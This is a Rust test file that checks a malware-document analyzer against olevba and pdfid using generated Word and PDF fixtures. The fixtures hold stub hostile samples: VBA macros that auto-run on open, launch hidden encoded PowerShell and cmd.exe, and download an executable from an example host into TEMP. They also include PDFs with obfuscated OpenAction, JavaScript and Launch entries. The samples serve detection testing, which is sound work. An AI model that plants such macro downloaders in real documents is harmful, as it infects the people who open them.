//! nestbox's document analyzers against olevba (oletools) and pdfid on documents built
//! here: the same modules and source, the same auto-exec and suspicious keywords, the same
//! PDF keyword counts (including `#xx`-obfuscated names).
//!
//! Ignored by `cargo test` because it needs the reference tools: `tests/docs/run.sh`
//! (part of `make test`) makes a venv with them and runs it with `--ignored`. Once run,
//! a missing tool is a failure, never a skip.

use std::collections::BTreeSet;
use std::path::PathBuf;
use std::process::Command;

use nestbox_analyzers::documents::analyze;
use serde_json::Value;

mod docbuild;

fn reference(paths: &[PathBuf]) -> Value {
    let python = std::env::var("NESTBOX_DOCREF_PYTHON")
        .expect("NESTBOX_DOCREF_PYTHON: run tests/docs/run.sh, which sets up the reference tools");
    let script = std::env::var("NESTBOX_DOCREF_SCRIPT").expect("NESTBOX_DOCREF_SCRIPT");
    let out = Command::new(python)
        .arg(script)
        .args(paths)
        .output()
        .expect("running the reference script");
    assert!(
        out.status.success(),
        "reference script failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("reference JSON")
}

/// Macro sources exercising olevba's keyword lists: auto-exec names, ActiveX event
/// handlers, obfuscation, downloaders, word-boundary edge cases (`Print #`, `Shell.Application`,
/// keywords inside identifiers that must not match).
const MODULES: &[(&str, &str)] = &[
    (
        "ThisDocument",
        "Private Sub Document_Open()\r\n    Runner\r\nEnd Sub\r\nSub Workbook_Open()\r\nEnd Sub\r\n",
    ),
    (
        "Module1",
        "Sub AutoOpen()\r\n  Dim x\r\n  x = StrReverse(\"exe.a\") & Chr(65) & ChrW(66)\r\n  \
         Set o = CreateObject(\"WScript.Shell\")\r\n  o.Run \"powershell -noprofile -EncodedCommand AAAA\", vbHide\r\n  \
         URLDownloadToFileA 0, \"http://a.example.com/b\", Environ(\"TEMP\") & \"\\b.exe\", 0, 0\r\nEnd Sub\r\n",
    ),
    (
        "Module2",
        "Private Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" (ByVal a As LongPtr) As LongPtr\r\n\
         Sub CommandButton1_Click()\r\n  Open \"c:\\x.txt\" For Binary As #1\r\n  Print #1, \"data\"\r\n  Close #1\r\n  \
         Set s = CreateObject(\"Shell.Application\")\r\n  s.ShellExecute \"cmd.exe\"\r\n  \
         RunnerX = 1 ' identifiers that only contain keywords: RunnerX, MyShellVar, Kill_it\r\n  \
         Set h = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\n  h.setRequestHeader \"User-Agent\", \"x\"\r\n  \
         ActiveDocument.VBProject.VBComponents(1).CodeModule.AddFromString \"x\"\r\nEnd Sub\r\n",
    ),
];

#[test]
#[ignore = "needs olevba and pdfid: run tests/docs/run.sh"]
fn vba_and_pdf_match_olevba_and_pdfid() {
    let dir = tempfile::tempdir().unwrap();
    let mut files: Vec<(PathBuf, Vec<u8>)> = Vec::new();
    files.push((
        dir.path().join("word97.doc"),
        docbuild::word97_with_macros(MODULES),
    ));
    files.push((
        dir.path().join("macro.docm"),
        docbuild::docm(&MODULES[1..], "http://t.example.com/t.dotm"),
    ));
    let mut long = String::new();
    for i in 0..600 {
        long.push_str(&format!(
            "Sub S{i}()\r\n  MsgBox \"line {i} of a long module\"\r\nEnd Sub\r\n"
        ));
    }
    files.push((
        dir.path().join("long.doc"),
        docbuild::word97_with_macros(&[("Module1", long.as_str())]),
    ));
    files.push((
        dir.path().join("js.pdf"),
        docbuild::pdf_with_js("app.alert(1);", "http://u.example.com/x"),
    ));
    // Name obfuscation, case variants pdfid must not count, /Colors, ObjStm, comments.
    files.push((
        dir.path().join("obfuscated.pdf"),
        b"%PDF-1.5\n1 0 obj << /Type /Catalog /Open#41ction 2 0 R /#41A << >> /AcroForm 3 0 R >> endobj\n\
          2 0 obj << /S /#4a#61#76#61#53cript /J#53 (app.alert\\(1\\)) /js (lower) /JavaScript2 1 >> endobj\n\
          3 0 obj << /XFA 4 0 R /Launch << /F (cmd.exe) >> /EmbeddedFile 5 0 R /RichMedia 1 >> endobj\n\
          4 0 obj << /Type /ObjStm /N 0 /First 0 /Colors 16777217 /Colors 16777216 /Colors 3 /JBIG2Decode 1 >> stream\nxx\nendstream endobj\n\
          % a comment with /JS inside\nxref\ntrailer << /Encrypt 6 0 R >>\nstartxref\n0\n%%EOF\ntrailing%%EOF\n"
            .to_vec(),
    ));
    for (p, d) in &files {
        std::fs::write(p, d).unwrap();
    }
    let paths: Vec<PathBuf> = files.iter().map(|(p, _)| p.clone()).collect();
    let want = reference(&paths);

    for (path, data) in &files {
        let name = path.file_name().unwrap().to_str().unwrap();
        let r = &want[path.to_str().unwrap()];
        let got = analyze(data, name);
        if name.ends_with(".pdf") {
            let pdf = &got.sections["pdf"];
            assert_eq!(pdf["Info"]["PDF Header"], r["header"], "{name}");
            for (k, v) in r["keywords"].as_object().unwrap() {
                let count = &pdf["Keywords"][k];
                assert_eq!(count, &v[0], "{name}: count of {k}");
                let hex = pdf["HexcodeKeywords"].get(k).cloned().unwrap_or(0.into());
                assert_eq!(hex, v[1], "{name}: hex-coded count of {k}");
            }
            assert_eq!(pdf["Info"]["Count %% EOF"], r["eof"], "{name}: %%EOF");
            if name == "obfuscated.pdf" {
                // The cases the file exists for were exercised, not vacuously equal.
                assert_eq!(pdf["HexcodeKeywords"]["/OpenAction"], 1);
                assert_eq!(pdf["HexcodeKeywords"]["/JavaScript"], 1);
                assert_eq!(pdf["Keywords"]["/Colors > 2^24"], 1);
            }
            println!("{name}: pdfid keyword counts agree");
            continue;
        }
        let office = &got.sections["office"];
        let want_mods = r["macros"].as_array().unwrap();
        let code = office["Macro"]["Code"].as_object().expect("macros found");
        assert_eq!(code.len(), want_mods.len(), "{name}: module count");
        let analysis = &office["Macro"]["Analysis"];
        let ours = |k: &str| -> BTreeSet<String> {
            analysis[k]
                .as_array()
                .map(|a| {
                    a.iter()
                        .map(|p| p[0].as_str().unwrap().to_owned())
                        .collect()
                })
                .unwrap_or_default()
        };
        let mut auto = BTreeSet::new();
        let mut sus = BTreeSet::new();
        for (i, m) in want_mods.iter().enumerate() {
            let mine = &code[&format!("Macro{}", i + 1)][0];
            assert_eq!(mine[0], m["stream"], "{name}: stream of module {i}");
            assert_eq!(mine[1], m["code"], "{name}: source of {}", m["stream"]);
            for k in m["autoexec"].as_array().unwrap() {
                auto.insert(k.as_str().unwrap().to_owned());
            }
            for k in m["suspicious"].as_array().unwrap() {
                sus.insert(k.as_str().unwrap().to_owned());
            }
        }
        assert_eq!(ours("AutoExec"), auto, "{name}: AutoExec");
        assert_eq!(ours("Suspicious"), sus, "{name}: Suspicious");
        println!(
            "{name}: {} modules, {} autoexec, {} suspicious keywords agree with olevba",
            want_mods.len(),
            auto.len(),
            sus.len()
        );
    }
}
